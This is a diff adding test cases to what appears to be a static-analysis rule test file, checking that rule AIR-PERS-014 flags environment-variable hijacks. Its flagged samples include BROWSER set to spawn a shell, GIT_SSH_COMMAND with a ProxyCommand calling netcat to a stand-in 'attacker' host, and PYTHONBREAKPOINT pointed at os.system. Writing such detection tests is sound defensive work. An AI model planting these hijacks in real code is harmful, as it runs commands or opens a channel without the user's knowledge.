@@ -89,3 +89,18 @@ class PostInstall(install):
 setup(name="pkg", version="1.0", cmdclass={"install": PostInstall})
 # ok: AIR-PERS-011
 setup(name="plain", version="1.0", packages=["plain"])
+
+
+# ruleid: AIR-PERS-014
+os.environ["BROWSER"] = "/bin/sh -c 'id' #%s"
+# ruleid: AIR-PERS-014
+os.putenv("GIT_SSH_COMMAND", "ssh -o ProxyCommand='nc attacker 9' host")
+hook_target = "os.system"
+# ruleid: AIR-PERS-014
+os.environ["PYTHONBREAKPOINT"] = hook_target
+# ok: AIR-PERS-014
+os.environ["GIT_PAGER"] = "cat"
+# ok: AIR-PERS-014
+os.environ["GIT_SSH_COMMAND"] = "ssh -o BatchMode=yes"
+# ok: AIR-PERS-014
+os.environ["LANG"] = "C.UTF-8; export"
